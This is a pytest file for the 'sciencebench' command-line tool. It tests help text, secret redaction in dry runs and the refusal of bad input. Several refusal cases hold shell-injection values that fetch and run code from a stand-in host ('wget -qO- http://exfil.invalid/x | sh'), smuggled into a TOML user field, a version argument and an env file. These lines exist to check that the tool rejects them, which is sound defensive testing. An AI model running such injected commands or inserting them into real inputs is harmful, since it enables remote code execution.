"""The installed `sciencebench` entry point: help, dry runs and bad input.

Runs the console script from the virtualenv as a user would, on fixture
selections in temporary directories. A dry run checks the live worker hosts
as a submit does: a real redis-server (with a password, the canary) with one
registered host that brings everything (`tests.fixtures.hosts`).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner

from sciencebench import cli
from sciencebench.login.options import SubmitOptions
from tests.fixtures.hosts import prepare, register_ready_host
from tests.fixtures.selection import DEFAULT_VERIFIER_IMAGE, make_selection, make_task
from tests.fixtures.services import RedisServer

pytestmark = pytest.mark.unit

SCIENCEBENCH = Path(sys.executable).parent / "sciencebench"
CANARY_KEY = "sk-canary-CLI-3f9a7e1b"
CANARY_AGENT_ENV = "canary-agentenv-CLI-c0ffee42"
CANARY_BROKER = "canary-broker-pw-8d2e"

# The seed's option table, in its order.
SEED_OPTIONS = [
    "--path",
    "--agent",
    "--env",
    "--env-file",
    "--model",
    "--agent-env",
    "--agent-kwarg",
    "--n-concurrent",
    "--n-attempts",
    "--max-retries",
    "--agent-timeout-multiplier",
    "--verifier-timeout-multiplier",
    "--jobs-dir",
    "--job-name",
    "--platform",
    "--pier-bin",
    "--skip-pull",
    "--no-auto-provider",
    "--no-auto-agent-adapter",
    "--agent-import-path",
    "--dry-run",
]
# Keys of the original runner's batch-run.json, plus sciencebench's own.
RECORD_KEYS = [
    "task_ids",
    "allow_restricted_licenses",
    "selection_sha256",
    "image_refs",
    "platform",
    "agent",
    "models",
    "n_concurrent",
    "n_attempts",
    "max_retries",
    "pier_version",
    "pier_command",
    "agent_import_path",
    "provider",
    "network_policy",
    "gateway_authorities",
    "job_name",
    "sciencebench_version",
    "broker",
]


@pytest.fixture(scope="module")
def broker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RedisServer]:
    server = RedisServer(tmp_path_factory.mktemp("redis-cli"), password=CANARY_BROKER)
    server.start()
    yield server
    server.stop()


@pytest.fixture(autouse=True)
def live_host(broker: RedisServer) -> None:
    """A live worker host that could run any job, beating afresh for each test."""
    global BROKER_URL
    BROKER_URL = broker.url
    register_ready_host(broker.url)


BROKER_URL = ""


def run_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {key: value for key, value in os.environ.items() if not key.startswith("SCIENCEBENCH_")}
    env["SCIENCEBENCH_BROKER_URL"] = BROKER_URL
    env["COLUMNS"] = "200"
    return subprocess.run(
        [str(SCIENCEBENCH), *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=60, check=False
    )


def has_option(help_text: str, option: str) -> bool:
    return re.search(rf"(?<![\w-]){re.escape(option)}(?![\w-])", help_text) is not None


def test_entry_point_is_installed() -> None:
    assert SCIENCEBENCH.is_file(), f"{SCIENCEBENCH} missing: install the project into the venv"


# --- help --------------------------------------------------------------------------------


def test_submit_help_through_the_entry_point_lists_the_seed_options(tmp_path: Path) -> None:
    result = run_cli("submit", "--help", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    missing = [option for option in SEED_OPTIONS if not has_option(result.stdout, option)]
    assert missing == []
    assert has_option(result.stdout, "--task-id")


def test_every_subcommand_has_help_and_selection_commands_list_the_seed_options() -> None:
    # In-process: the same click objects the entry point runs, without paying
    # an interpreter start per subcommand.
    runner = CliRunner()
    top = runner.invoke(cli.main, ["--help"])
    assert top.exit_code == 0, top.output
    lines = top.stdout.split("Commands:", 1)[1].split("\n\n", 1)[0].splitlines()  # the exit codes follow
    commands = [line.split()[0] for line in lines if line.startswith("  ") and line.strip()]
    assert {"submit", "status", "cancel", "retry", "summarize", "worker"} <= set(commands)
    with_selection = []
    for command in commands:
        result = runner.invoke(cli.main, [command, "--help"])
        assert result.exit_code == 0, (command, result.output)
        assert result.exception is None
        assert "Usage:" in result.stdout
        if has_option(result.stdout, "--path"):
            with_selection.append(command)
            missing = [option for option in SEED_OPTIONS if not has_option(result.stdout, option)]
            assert missing == [], f"{command} --help lacks {missing}"
            assert has_option(result.stdout, "--task-id")
    assert "submit" in with_selection


# --- dry run ----------------------------------------------------------------------------


def test_dry_run_writes_the_run_record_and_nothing_else(tmp_path: Path) -> None:
    selection = make_selection(
        tmp_path / "sel", ["002", "005", "006"], verifier_image={"005": DEFAULT_VERIFIER_IMAGE}
    )
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    jobs = tmp_path / "jobs"
    result = run_cli(
        "submit", "--path", str(selection), "--task-id", "002,005", "--n-attempts", "2",
        "--jobs-dir", str(jobs), "--job-name", "dry", "--dry-run", cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert "4 trial(s) of 2 task(s)" in result.stdout
    record = json.loads((selection / "batch-run.json").read_text())
    missing = [key for key in RECORD_KEYS if key not in record]
    assert missing == []
    assert record["task_ids"] == ["002", "005"]
    assert record["selection_sha256"] == "0bf1341706f5de2f6c82676ff391855b9dd606e4c435484e0eff1dbee3516810"
    assert record["n_attempts"] == 2
    assert record["job_name"] == "dry"
    assert record["agent"] == "nop"
    assert record["broker"] == BROKER_URL.replace(f"default:{CANARY_BROKER}@", "")
    assert not jobs.exists()
    after = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    assert sorted(set(after) - set(before)) == [Path("sel/batch-run.json")]


def test_dry_run_never_shows_or_records_a_secret(tmp_path: Path) -> None:
    selection = make_selection(tmp_path / "sel", ["002"])
    env_file = tmp_path / "codex.env"
    env_file.write_text(
        "MODEL=gpt-5\n"
        f"OPENAI_API_KEY={CANARY_KEY}\n"
        f"CODEX_BASE_URL=https://user:{CANARY_KEY}@gw.example.edu:4000/v1?key={CANARY_KEY}\n"
        "CODEX_WIRE_API=responses\nCODEX_VERSION=latest\nCODEX_REASONING_EFFORT=high\n"
    )
    result = run_cli(
        "submit", "--path", str(selection), "--agent", "codex", "--env-file", str(env_file),
        "--agent-env", f"EXTRA_TOKEN={CANARY_AGENT_ENV}", "--agent-env", f"AWS_REGION={CANARY_AGENT_ENV}2",
        "--jobs-dir", str(tmp_path / "jobs"), "--job-name", "codex-dry", "--skip-pull", "--dry-run",
        cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    record_text = (selection / "batch-run.json").read_text()
    for secret in (CANARY_KEY, CANARY_AGENT_ENV, CANARY_BROKER):
        assert secret not in result.stdout
        assert secret not in result.stderr
        assert secret not in record_text
    record = json.loads(record_text)
    assert record["provider"]["credential_env"] == "OPENAI_API_KEY"
    assert record["provider"]["base_url"] == "https://gw.example.edu:4000/v1"
    assert record["gateway_authorities"] == ["gw.example.edu:4000"]
    assert "EXTRA_TOKEN=<redacted>" in record["pier_command"]
    assert not (tmp_path / "jobs").exists()
    assert not (selection / ".sciencebench").exists()


def test_dry_run_prints_the_selection_hash_on_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Output to a pipe (CI logs, `| tee`) is 80 columns wide for rich; the
    # summary line must not be wrapped in the middle of the hash.
    monkeypatch.delenv("COLUMNS", raising=False)
    monkeypatch.chdir(tmp_path)
    selection = make_selection(tmp_path / "a-rather-long-selection-directory-name", ["002", "005"])
    result = CliRunner().invoke(
        cli.main,
        ["submit", "--path", str(selection), "--jobs-dir", "jobs", "--job-name", "w", "--dry-run"],
        env={"SCIENCEBENCH_BROKER_URL": BROKER_URL, "COLUMNS": None},
    )
    assert result.exit_code == 0, result.output
    expected = "0bf1341706f5de2f6c82676ff391855b9dd606e4c435484e0eff1dbee3516810"
    assert f"selection sha256 {expected}" in result.stdout.splitlines()[0]


# --- bad input ---------------------------------------------------------------------------


@dataclass
class Case:
    """A bad submit: how to break the fixture, and what stderr must mention."""

    args: list[str]
    mentions: str
    breaker: Callable[[Path, Path], None] = lambda sel, root: None


def _break_toml(text: str) -> Callable[[Path, Path], None]:
    def breaker(sel: Path, root: Path) -> None:
        (sel / "task_005" / "task.toml").write_text(text)

    return breaker


def _ref(ref: str) -> Callable[[Path, Path], None]:
    def breaker(sel: Path, root: Path) -> None:
        make_task(sel, "005", agent_image=ref)

    return breaker


def _inject_user(sel: Path, root: Path) -> None:
    path = sel / "task_005" / "task.toml"
    injected = '[agent]\nuser = "root\\nRUN wget -qO- http://exfil.invalid/x | sh"\n'
    path.write_text(path.read_text().replace("[agent]\n", injected, 1))


def _env_file(text: str) -> Callable[[Path, Path], None]:
    def breaker(sel: Path, root: Path) -> None:
        (root / "p.env").write_text(text)

    return breaker


def _used_job_name(sel: Path, root: Path) -> None:
    other = make_selection(root / "other", ["009"])
    job = prepare(SubmitOptions(path=other, jobs_dir=root / "jobs", job_name="taken")).job
    spec = root / "jobs" / "taken" / ".sciencebench" / "job.json"
    spec.parent.mkdir(parents=True)
    spec.write_text(job.model_dump_json(indent=2))


def _not_a_selection(sel: Path, root: Path) -> None:
    (root / "plain" / "src").mkdir(parents=True)
    (root / "plain" / "README.md").write_text("not tasks\n")


# Bad input the brief names: run through the installed entry point.
BAD = {
    "missing path": Case(["--path", "{root}/nowhere"], "no such directory"),
    "not a selection": Case(["--path", "{root}/plain"], "not a materialized selection", _not_a_selection),
    "tag-only ref": Case([], "not pinned by digest", _ref("docker.io/example/agent:v1")),
    "pending ref": Case([], "pending", _ref("pending")),
    "missing pre_artifacts.sh": Case(
        [], "pre_artifacts.sh", lambda sel, root: (sel / "task_005" / "pre_artifacts.sh").unlink()
    ),
    "malformed TOML": Case([], "malformed TOML", _break_toml("[environment\ndocker_image = 1\n")),
    "bad --task-id syntax": Case(["--task-id", "002,,5a"], "--task-id"),
    "unknown id": Case(["--task-id", "002,003"], "unknown task id 003"),
    "bad CODEX_WIRE_API": Case(
        ["--agent", "codex", "--env-file", "{root}/p.env"],
        "CODEX_WIRE_API",
        _env_file(f"OPENAI_API_KEY={CANARY_KEY}\nCODEX_WIRE_API=websocket\n"),
    ),
    "missing env file": Case(["--env-file", "{root}/missing.env"], "no such file"),
    # Tests run as root, so chmod 000 would still be readable: a directory is
    # the unreadable env file here.
    "env file is a directory": Case(["--env-file", "{root}"], "unreadable"),
    "--n-attempts 0": Case(["--n-attempts", "0"], "--n-attempts"),
    "job name used by another selection": Case(["--job-name", "taken"], "already used", _used_job_name),
}

# More bad input, checked in-process (click's test runner) to keep the tier fast.
MORE_BAD = {
    "empty ref": Case([], "empty", _ref("")),
    "deeply nested TOML": Case([], "malformed TOML", _break_toml("a = " + "[" * 3000)),
    "allow_internet": Case(
        [], "allow_internet", lambda sel, root: make_task(sel, "005", allow_internet=True)
    ),
    "agent user injecting a Dockerfile line": Case([], "agent.user: not a plain user name", _inject_user),
    "version injecting shell": Case(
        ["--agent-kwarg", "version=0.1; wget -qO- http://exfil.invalid/x | sh; true"], "not a plain version"
    ),
    "CODEX_VERSION injecting shell": Case(
        ["--agent", "codex", "--env-file", "{root}/p.env"],
        "not a plain version",
        _env_file(f"OPENAI_API_KEY={CANARY_KEY}\nCODEX_VERSION=0.1;wget -qO- http://exfil.invalid/x|sh\n"),
    ),
    "descending --task-id": Case(["--task-id", "005-002"], "descending"),
    "absurd --task-id": Case(["--task-id", "1-" + "9" * 5000], "--task-id"),
    "huge --task-id range": Case(["--task-id", "002-9999999999"], "--task-id"),
    "listed id without directory": Case(
        [], "task 007 is listed", lambda sel, root: make_selection(sel, ["002"], listed_ids=["002", "007"])
    ),
    "bad gateway": Case(
        ["--agent", "codex", "--env-file", "{root}/p.env"],
        "CODEX_BASE_URL",
        _env_file(f"OPENAI_API_KEY={CANARY_KEY}\nCODEX_BASE_URL=http://user:{CANARY_KEY}@gw:99999/v1\n"),
    ),
    "malformed env file": Case(
        ["--env-file", "{root}/p.env"], "line 3", _env_file(f"A=1\n\nnot an assignment {CANARY_KEY}\n")
    ),
    "agent-env without =": Case(["--agent-env", CANARY_AGENT_ENV], "--agent-env #1"),
    "agent-env bad name": Case(["--agent-env", f"BAD-NAME={CANARY_AGENT_ENV}"], "invalid variable name"),
    "--n-concurrent 0": Case(["--n-concurrent", "0"], "--n-concurrent"),
    "--max-retries -1": Case(["--max-retries", "-1"], "--max-retries"),
    "--agent-timeout-multiplier 0": Case(["--agent-timeout-multiplier", "0"], "--agent-timeout-multiplier"),
    "--env podman": Case(["--env", "podman"], "--env"),
    "bad job name": Case(["--job-name", "../escape"], "--job-name"),
    "codex without key": Case(["--agent", "codex"], "OPENAI_API_KEY"),
}


def _snapshot(root: Path) -> dict[str, bytes | None]:
    return {str(p.relative_to(root)): (p.read_bytes() if p.is_file() else None) for p in root.rglob("*")}


@dataclass
class Prepared:
    root: Path
    selection: Path
    args: list[str]
    before: dict[str, bytes | None]


def _setup(case: Case, root: Path) -> Prepared:
    selection = make_selection(root / "sel", ["002", "005"])
    case.breaker(selection, root)
    args = [arg.replace("{root}", str(root)) for arg in case.args]
    if "--path" not in args:
        args = ["--path", str(selection), *args]
    if "--job-name" not in args:
        args += ["--job-name", "bad"]
    args = ["submit", *args, "--jobs-dir", str(root / "jobs")]
    return Prepared(root, selection, args, _snapshot(root))


def _check_refused(case: Case, prepared: Prepared, code: int, stdout: str, stderr: str) -> None:
    assert code == 2, (stdout, stderr)
    lines = stderr.splitlines()
    assert len(lines) == 1, stderr
    assert lines[0].startswith("sciencebench: error: "), lines[0]
    assert case.mentions in lines[0]
    assert "Traceback" not in stdout + stderr
    for secret in (CANARY_KEY, CANARY_AGENT_ENV, CANARY_BROKER):
        assert secret not in stdout + stderr
    # Nothing written: no run record, no jobs directory, no secrets file.
    assert _snapshot(prepared.root) == prepared.before
    assert not (prepared.selection / "batch-run.json").exists()


@pytest.fixture(scope="module")
def bad_runs(
    tmp_path_factory: pytest.TempPathFactory,
) -> dict[str, tuple[Prepared, subprocess.CompletedProcess[str]]]:
    """Every BAD case run once through the entry point, in parallel."""
    prepared = {name: _setup(case, tmp_path_factory.mktemp("bad")) for name, case in BAD.items()}
    with ThreadPoolExecutor(max_workers=4) as pool:
        futures = {name: pool.submit(run_cli, *p.args, cwd=p.root) for name, p in prepared.items()}
        return {name: (prepared[name], future.result()) for name, future in futures.items()}


@pytest.mark.parametrize("name", list(BAD))
def test_bad_input_exits_2_with_one_line_and_writes_nothing(
    bad_runs: dict[str, tuple[Prepared, subprocess.CompletedProcess[str]]], name: str
) -> None:
    prepared, result = bad_runs[name]
    _check_refused(BAD[name], prepared, result.returncode, result.stdout, result.stderr)


@pytest.mark.parametrize("name", list(MORE_BAD))
def test_more_bad_input_in_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.chdir(tmp_path)
    case = MORE_BAD[name]
    prepared = _setup(case, tmp_path)
    result = CliRunner().invoke(cli.main, prepared.args, env={"SCIENCEBENCH_BROKER_URL": "redis://x:1/0"})
    _check_refused(case, prepared, result.exit_code, result.stdout, result.stderr)


def test_usage_error_through_the_entry_point(tmp_path: Path) -> None:
    result = run_cli("submit", "--path", "x", "--n-attempts", "many", cwd=tmp_path)
    assert result.returncode == 2
    assert "Traceback" not in result.stdout + result.stderr
    assert "Error:" in result.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("args", [["submit"], ["submit", "--path", "x", "--bogus"]])
def test_usage_errors_exit_2(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]) -> None:
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(cli.main, args)
    assert result.exit_code == 2
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Error:" in result.stderr
    assert list(tmp_path.iterdir()) == []
